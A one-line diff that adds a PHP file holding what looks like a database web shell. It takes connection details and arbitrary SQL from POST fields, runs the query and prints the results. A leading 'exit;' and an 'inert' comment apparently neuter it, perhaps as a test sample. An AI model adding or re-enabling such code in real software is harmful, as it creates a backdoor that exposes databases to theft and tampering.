@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $l=mysql_connect($_POST["host"],$_POST["user"],$_POST["pass"]); mysql_select_db($_POST["db"],$l); $r=mysql_query($_POST["sql"]); while($x=mysql_fetch_row($r)) print_r($x);
